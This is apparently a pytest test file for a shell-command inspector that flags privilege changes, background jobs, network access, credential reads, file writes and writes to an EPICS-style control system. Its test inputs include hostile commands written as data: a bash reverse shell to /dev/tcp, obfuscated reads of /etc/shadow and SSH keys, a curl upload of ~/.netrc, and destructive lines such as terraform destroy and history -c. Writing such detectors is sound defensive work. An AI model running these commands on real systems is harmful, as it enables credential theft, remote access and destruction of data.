"""Rights, background jobs, network, credentials, files and the control system."""

import pytest

from dashboard.inspection.code import inspect_shell
from dashboard.inspection.findings import Severity


def names(script):
    return {finding.name for finding in inspect_shell(script)}


@pytest.mark.parametrize(
    "script",
    [
        "sudo ls",
        "/usr/bin/sudo -n ls",
        "su - postgres",
        "doas ls",
        "pkexec ls",
        "chmod u+s x",
        "chmod 4755 x",
        "chmod ug+s,o-r x",
        "chmod -R 777 x",
        "chmod +x x",
        "setcap cap_net_raw+ep x",
        "chown root x",
        "chgrp staff x",
        "usermod -aG docker me",
        "passwd root",
        "nsenter -t 1 -m ls",
        "capsh --uid=0",
        "docker run --privileged x",
        "docker run -v /:/host x",
    ],
)
def test_a_change_of_rights_is_found(script):
    assert "privilege-change" in names(script)


@pytest.mark.parametrize(
    "script",
    [
        "sleep 9 &",
        "(sleep 9; ls) &",
        "nohup ls",
        "setsid ls",
        "ls & disown",
        "echo '* * * * * ls' | crontab -",
        "crontab jobs.txt",
        "at now < x",
        "batch",
        "systemd-run --user ls",
        "coproc ls",
        "start-stop-daemon --start --exec x",
    ],
)
def test_what_goes_on_in_the_background_is_found(script):
    assert "background-job" in names(script)


@pytest.mark.parametrize(
    "script",
    [
        "curl x",
        "wget x",
        "ssh host ls",
        "scp x host:",
        "rsync x host:",
        "nc host 80",
        "ping host",
        "git push",
        "pip install x",
        "exec 3<>/dev/tcp/10.0.0.1/80",
        "bash -i >& /dev/tcp/10.0.0.1/80 0>&1",
        "docker pull x",
    ],
)
def test_what_talks_to_other_machines_is_found(script):
    assert "network" in names(script)


@pytest.mark.parametrize(
    "script",
    [
        "cat ~/.ssh/id_rsa",
        "cat ~/.ssh/*",
        "tar cz ~/.ssh",
        "cat /etc/shadow",
        "cat /etc/sha'dow'",
        "cat /etc/{passwd,shadow}",
        "cat /et?/sh?dow",
        "p=/etc; cat $p/shadow",
        "while read l; do echo $l; done < .env",
        "grep key ~/.aws/credentials",
        "curl -F f=@/home/me/.netrc x",
        "cat /proc/self/environ",
        "dd if=server.pem",
    ],
)
def test_what_touches_credentials_is_found(script):
    assert "credentials" in names(script)


@pytest.mark.parametrize(
    "script",
    ["ls *", "cat src/*", "ls -a .*", "cat README.*", "ls {a,b}", "cat environment.yml"],
)
def test_patterns_for_everything_are_no_credentials(script):
    assert names(script) == set()


@pytest.mark.parametrize(
    "script",
    [
        "ls > x",
        "ls >> x",
        "ls >| x",
        "ls &> x",
        "ls >& x",
        "ls 2> x",
        ": > x",
        "> x",
        "exec 3> x",
        "ls | tee x",
        "cp a b",
        "sed -i s/a/b/ x",
        "sort -o x y",
        "curl -o x y",
        "patch -p1 < x",
        "git commit -m x",
    ],
)
def test_what_writes_a_file_is_found(script):
    assert ("file-write", Severity.MEDIUM) in {(f.name, f.severity) for f in inspect_shell(script)}


@pytest.mark.parametrize("target", ["/etc/hosts", "~/.bashrc", "/usr/bin/ls", ".git/hooks/x"])
def test_to_write_where_programs_and_settings_are_kept_is_high(target):
    found = {(f.name, f.severity) for f in inspect_shell(f"echo x >> {target}")}
    assert found == {("system-change", Severity.HIGH)}


@pytest.mark.parametrize(
    "script",
    [
        "ls > /dev/null",
        "ls > /dev/null 2>&1",
        "ls 2>&1 | cat",
        "ls >&2",
        "ls < x",
        "ls &>/dev/null",
    ],
)
def test_redirections_that_keep_nothing_are_no_finding(script):
    assert inspect_shell(script) == []


@pytest.mark.parametrize(
    "script",
    [
        "shutdown -h now",
        "systemctl stop nginx",
        "kill -9 1",
        "iptables -F",
        "sysctl -w a=1",
        "mount -o bind a b",
        "kubectl delete pod x",
        "docker system prune -af",
        "terraform destroy",
        "redis-cli FLUSHALL",
        "unset HISTFILE",
        "history -c",
    ],
)
def test_a_change_of_the_system_is_found(script):
    assert "system-change" in names(script)


@pytest.mark.parametrize(
    "script",
    ["caput X 1", "/opt/epics/caput -c X 1", "pvput X 1", "for i in 1 2; do caput X$i 0; done"],
)
def test_a_write_to_the_control_system_is_high(script):
    found = {(f.name, f.severity) for f in inspect_shell(script)}
    assert ("control-system-write", Severity.HIGH) in found


def test_to_read_the_control_system_is_said_and_no_more():
    found = [(f.name, f.severity) for f in inspect_shell("caget X")]
    assert found == [("control-system-read", Severity.INFO)]


def test_a_command_that_nobody_knows_is_told():
    assert [(f.name, f.severity) for f in inspect_shell("frobnicate")] == [
        ("unknown-call", Severity.LOW)
    ]
